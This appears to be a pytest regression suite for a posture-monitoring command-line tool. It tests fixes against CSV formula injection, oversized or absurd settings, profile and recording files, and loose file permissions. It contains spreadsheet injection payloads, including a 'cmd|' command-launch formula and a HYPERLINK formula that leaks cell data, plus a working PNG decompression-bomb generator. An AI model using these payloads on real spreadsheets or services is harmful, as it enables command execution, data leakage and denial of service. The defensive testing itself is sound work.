"""Attacks on the files posture-watch reads and writes (issue 18, items 5, 6 and 9).

Each test is an attack that worked before its fix: a pain journal note that a spreadsheet
runs as a formula, settings, profiles, pictures and recordings edited by hand to be
absurd or huge, and private files left readable by others. They run the real CLI on real
files; the ones that start a process are marked ``slow``.
"""

import csv
import io
import json
import os
import resource
import stat
import struct
import subprocess
import sys
import warnings
import zlib

import pytest

from posture_watch.commands.history_cli import spreadsheet_safe
from tests.harness.cli import person_env

CLI = [sys.executable, "-m", "posture_watch.cli"]


@pytest.fixture
def env(tmp_path):
    return person_env(tmp_path)


def run(env, *args, umask=None, timeout=60):
    def set_umask():
        os.umask(umask)

    return subprocess.run(
        [*CLI, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=None if umask is None else set_umask,
    )


def one_line_error(proc, *words):
    assert proc.returncode != 0, proc
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


# -- item 6: CSV formula injection ------------------------------------------------------


def test_every_formula_start_is_escaped_and_numbers_are_not():
    for cell in ("=1", "+1", "-1+1", "@A1", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("neck, upper back") == "neck, upper back"


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


@pytest.mark.slow
def test_journal_notes_that_look_like_formulas_export_as_text(env):
    for note in FORMULAS:
        proc = run(env, "journal", "--pain", "3", f"--note={note}")
        assert proc.returncode == 0, proc.stderr
    proc = run(env, "export", "--table", "journal", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    notes = [row["note"] for row in csv.DictReader(io.StringIO(proc.stdout))]
    assert sorted(notes) == sorted("'" + note for note in FORMULAS)
    for row in csv.DictReader(io.StringIO(proc.stdout)):
        assert int(row["pain"]) == 3  # numbers stay numbers
    # JSON stays raw: it is read by programs, not run by a spreadsheet
    proc = run(env, "export", "--table", "journal", "--format", "json")
    assert '"=cmd|' in proc.stdout and "\"'=cmd" not in proc.stdout


# -- item 9: bad files ------------------------------------------------------------------


def test_a_daily_report_at_midnight_fires_once_for_the_day_that_ended():
    """``daily_at = "00:00"`` passed ``settings --check`` and then wrote the report of the
    day just started (empty) instead of the day that ended."""
    from datetime import date, datetime, timedelta

    from posture_watch.config import config_from_text
    from posture_watch.core.day_timer import DayTimer

    config = config_from_text('[report]\ndaily_at = "00:00"\n', "settings.toml")
    start = datetime(2024, 5, 1, 23, 0)
    timer = DayTimer(start, config.report.daily_at)
    fired = []
    for step in range(2 * 24 * 120):  # two days, a tick every 30 s
        local = start + timedelta(seconds=30 * step)
        if timer.report_due(local):
            fired.append((local, timer.report_day))
    assert fired == [
        (datetime(2024, 5, 2, 0, 0), date(2024, 5, 1)),
        (datetime(2024, 5, 3, 0, 0), date(2024, 5, 2)),
    ]


@pytest.mark.slow
def test_a_settings_file_with_a_bom_is_read_and_a_huge_one_refused_unparsed(env, tmp_path):
    bom = tmp_path / "bom.toml"
    bom.write_bytes(b'\xef\xbb\xbf[report]\ndaily_at = "00:00"\n')  # Windows Notepad
    proc = run(env, "settings", "--check", "--config", str(bom))
    assert proc.returncode == 0 and proc.stdout.startswith("ok "), proc.stderr
    huge = tmp_path / "huge.toml"
    with huge.open("w") as file:  # 20 MB of keys: parsing it took minutes and GBs
        file.write("[camera]\n")
        for n in range(1_000_000):
            file.write(f"k{n} = 1\n")
    line = one_line_error(run(env, "settings", "--check", "--config", str(huge)), "larger than")
    assert "1024 KB" in line


def profile(tmp_path, head_median=0.62, head_spread=0.01, **extra):
    path = tmp_path / "hand-edited.json"
    features = {
        "head_height": {"median": head_median, "spread": head_spread},
        "nose_height": {"median": 0.55, "spread": 0.01},
        **extra,
    }
    text = json.dumps({"format": "posture-watch-calibration", "schema_version": 1,
                       "calibrated": True, "features": features})  # fmt: skip
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        ({"head_spread": float("inf")}, ["head_height spread", "inf"]),
        ({"head_spread": float("nan")}, ["head_height spread", "nan"]),
        ({"head_median": 1e308}, ["head_height median", "1e+308"]),
        ({"head_median": 50.0}, ["head_height median", "50.0"]),
        ({"head_spread": -0.01}, ["negative"]),
        ({"head_spread": 0.5}, ["head_height spread", "6%"]),
        ({"neck_angle": {"median": 5.0, "spread": float("-inf")}}, ["neck_angle spread"]),
    ],
)
def test_a_hand_edited_profile_with_absurd_numbers_is_refused(tmp_path, edit, words):
    from posture_watch.errors import CalibrationError
    from posture_watch.profiles import load_profile

    path = profile(tmp_path, **edit)
    with pytest.raises(CalibrationError) as caught:
        load_profile(path)
    message = str(caught.value)
    assert "damaged calibration profile" in message and "\n" not in message
    for word in words:
        assert word in message, message


def test_a_plausible_profile_still_loads(tmp_path):
    from posture_watch.profiles import load_profile

    baseline = load_profile(profile(tmp_path, neck_angle={"median": -12.5, "spread": 3.0}))
    assert baseline.median("head_height") == 0.62


def write_png_header_bomb(path, width=30000, height=30000):
    """A real, valid PNG of ``width``×``height`` black pixels in a few MB: the deflate
    stream of one block of rows is repeated (a full flush makes blocks independent)."""
    row = b"\x00" * (width * 3 + 1)
    rows_per_block = 300
    block = row * rows_per_block
    squeeze = zlib.compressobj(1)
    first = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    assert first[2:] == again
    blocks = height // rows_per_block
    checksum = 1
    for _ in range(blocks):
        checksum = zlib.adler32(block, checksum)
    data = first + again * (blocks - 1) + b"\x03\x00" + struct.pack(">I", checksum)

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


MEASURE = """
import resource, sys
from pathlib import Path
from posture_watch.errors import FrameError
from posture_watch.sources.images import decode_image
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    decode_image(Path(sys.argv[1]), "big.png")
    print("decoded")
except FrameError as exc:
    print(exc)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print((after - before) // 1024)
"""


@pytest.mark.slow
def test_a_picture_of_900_megapixels_is_refused_before_decoding(env, tmp_path):
    big = tmp_path / "big.png"
    write_png_header_bomb(big)
    assert big.stat().st_size < 20_000_000
    limit = 3 * 1024**3  # the old decoder would take 2.7 GB; keep the machine safe
    proc = subprocess.run(
        [sys.executable, "-c", MEASURE, str(big)],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)),
    )
    message, grown_mb = proc.stdout.strip().splitlines()
    assert "more than the 100 megapixels" in message, proc
    assert int(grown_mb) < 100, f"RSS grew by {grown_mb} MB"
    one_line_error(run(env, "analyze", str(big)), "big.png", "100 megapixels")


def recording(tmp_path, times):
    path = tmp_path / "session.jsonl"
    lines = [{"format": "posture-watch-landmarks", "version": 1, "source": "x", "fps": 2.0}]
    lines += [{"frame": i, "t": t, "name": "", "person": False} for i, t in enumerate(times)]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


@pytest.mark.parametrize(
    ("times", "line_number"),
    [([-1000.0, 0.5, 1.0], 2), ([0.0, 0.5, 1e12], 4), ([0.0, 5.0, 4.0], 4)],
)
def test_a_recording_with_negative_or_absurd_timestamps_is_refused(tmp_path, times, line_number):
    from posture_watch.errors import SourceError
    from posture_watch.sources.recording import RecordingSource

    with pytest.raises(SourceError) as caught:
        RecordingSource(recording(tmp_path, times))
    assert f"line {line_number}:" in str(caught.value) and "\n" not in str(caught.value)


def test_a_recording_of_one_huge_line_is_refused_without_reading_it_whole(tmp_path):
    """Was: a 50 MB file of one line (a renamed video, an attack) was read whole into
    memory before JSON refused it. Now reading stops after one megabyte, in one line."""
    from posture_watch.errors import SourceError
    from posture_watch.sources.recording import MAX_LINE, RecordingSource

    path = recording(tmp_path, [0.0, 0.5])
    with path.open("a") as handle:
        handle.write("[" * (50 * MAX_LINE))
    with pytest.raises(SourceError) as caught:
        RecordingSource(path)
    assert "line 4: longer than 1,000,000 characters" in str(caught.value)


@pytest.mark.slow
def test_analyze_says_which_line_of_a_recording_starts_before_zero(env, tmp_path):
    path = recording(tmp_path, [-1000.0, 0.5, 1.0])
    one_line_error(run(env, "analyze", str(path)), "line 2", '"t"')


def test_a_108_megapixel_picture_is_refused_with_its_size(tmp_path):
    from posture_watch.errors import FrameError
    from posture_watch.sources.images import decode_image

    big = tmp_path / "phone.png"
    write_png_header_bomb(big, 12000, 9000)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no warning from Pillow on the way
        with pytest.raises(FrameError, match=r"phone.png: the picture \(12000×9000\) has more"):
            decode_image(big, "phone.png")


# -- item 5: private files --------------------------------------------------------------


def modes(root):
    """``{relative path: mode}`` of every folder and file under ``root``."""
    found = {}
    for folder, folders, files in os.walk(root):
        for name in [*folders, *files]:
            path = os.path.join(folder, name)
            found[os.path.relpath(path, root)] = stat.S_IMODE(os.stat(path).st_mode)
    return found


def assert_private(root, names):
    found = modes(root)
    for name in names:
        want = 0o700 if os.path.isdir(root / name) else 0o600
        assert found[name] == want, f"{name} is {found[name]:o}, want {want:o}"


@pytest.mark.slow
@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_files_made_from_the_pain_journal_are_private_under_any_umask(env, tmp_path, umask):
    history = tmp_path / "data" / "posture-watch" / "history.sqlite3"
    assert run(env, "journal", "--pain", "6", "--note", "neck", umask=umask).returncode == 0
    out = tmp_path / "out"
    report = out / "reports" / "day.html"
    proc = run(env, "report", "--history", str(history), "--html", str(report), umask=umask)
    assert proc.returncode == 0, proc.stderr
    proc = run(env, "export", "--format", "csv", "--table", "journal",
               "--out", str(out / "journal.csv"), umask=umask)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    proc = run(env, "export", "--format", "csv", "--table", "all",
               "--out", str(out / "tables"), umask=umask)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert run(env, "settings", "--path", umask=umask).returncode == 0
    made = ["out/reports", "out/reports/day.html", "out/journal.csv", "out/tables",
            "out/tables/journal.csv", "config", "config/posture-watch",
            "config/posture-watch/settings.toml"]  # fmt: skip
    assert_private(tmp_path, made)


@pytest.mark.slow
@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_a_profile_folder_found_open_is_tightened(env, tmp_path, umask, shared_samples):
    profiles = tmp_path / "config" / "posture-watch" / "profiles"
    profiles.mkdir(parents=True)
    for folder in (profiles, profiles.parent):
        folder.chmod(0o755)  # made by an older version, or by hand
    picture = shared_samples / "hcpostureguard/webcam_crops/setup.png"
    proc = run(env, "calibrate", "--source", str(picture), "--profile", "desk", umask=umask)
    assert proc.returncode == 0, proc.stderr
    assert_private(tmp_path, ["config/posture-watch", "config/posture-watch/profiles",
                              "config/posture-watch/profiles/desk.json"])  # fmt: skip


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_the_event_log_and_the_log_file_are_private(tmp_path, umask, monkeypatch):
    from datetime import datetime

    from posture_watch.core.events import SlouchAlert
    from posture_watch.monitor.crash_log import write_crash
    from posture_watch.monitor.event_log import EventLog

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "share"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("POSTURE_WATCH_HOME", raising=False)
    app = tmp_path / "share" / "posture-watch"
    app.mkdir(parents=True)
    app.chmod(0o755)
    old_log = app / "events.jsonl"
    old_log.write_text("")
    old_log.chmod(0o644)  # written before this fix
    previous = os.umask(umask)
    try:
        events = EventLog(old_log)
        events.write(SlouchAlert(0.0, episode_start=-30.0), datetime(2024, 5, 1, 9))
        events.close()
        fresh = EventLog(tmp_path / "new" / "events.jsonl")
        fresh.write(SlouchAlert(0.0, episode_start=-30.0), datetime(2024, 5, 1, 9))
        fresh.close()
        write_crash(tmp_path / "state" / "posture-watch" / "posture-watch.log", ValueError(), 0)
    finally:
        os.umask(previous)
    assert_private(tmp_path, ["share/posture-watch", "share/posture-watch/events.jsonl",
                              "new", "new/events.jsonl", "state", "state/posture-watch",
                              "state/posture-watch/posture-watch.log"])  # fmt: skip
    assert stat.S_IMODE((tmp_path / "share").stat().st_mode) == 0o755 & ~0o022  # not ours


def test_a_folder_the_person_chose_is_left_as_it_is(tmp_path):
    """A checkout called ``posture-watch`` is not ours to tighten: only what we make is."""
    from posture_watch.private_files import private_folder

    checkout = tmp_path / "code" / "posture-watch"
    checkout.mkdir(parents=True)
    checkout.chmod(0o755)
    private_folder(checkout / "reports", tmp_path / "data" / "posture-watch")
    assert stat.S_IMODE(checkout.stat().st_mode) == 0o755
    assert stat.S_IMODE((checkout / "reports").stat().st_mode) == 0o700


def test_a_prompts_file_with_a_bom_is_read_and_a_huge_one_refused(tmp_path):
    from posture_watch.errors import ConfigError
    from posture_watch.prompt_library import load_prompts

    folder = tmp_path / "prompts"
    folder.mkdir()
    (folder / "mine.toml").write_bytes(b"\xef\xbb\xbfschema_version = 1\n")
    load_prompts(folder)  # a BOM said "Invalid statement" before
    (folder / "mine.toml").write_bytes(b"schema_version = 1\n" + b"# padding\n" * 200_000)
    with pytest.raises(ConfigError, match="larger than 1024 KB"):
        load_prompts(folder)


def test_a_huge_profile_is_refused_unread(tmp_path):
    from posture_watch.errors import CalibrationError
    from posture_watch.profiles import load_profile

    path = profile(tmp_path)
    path.write_text(path.read_text()[:-1] + ', "meta": {"x": "' + "y" * 10_000_000 + '"}}')
    with pytest.raises(CalibrationError, match="larger than 64 KB"):
        load_profile(path)
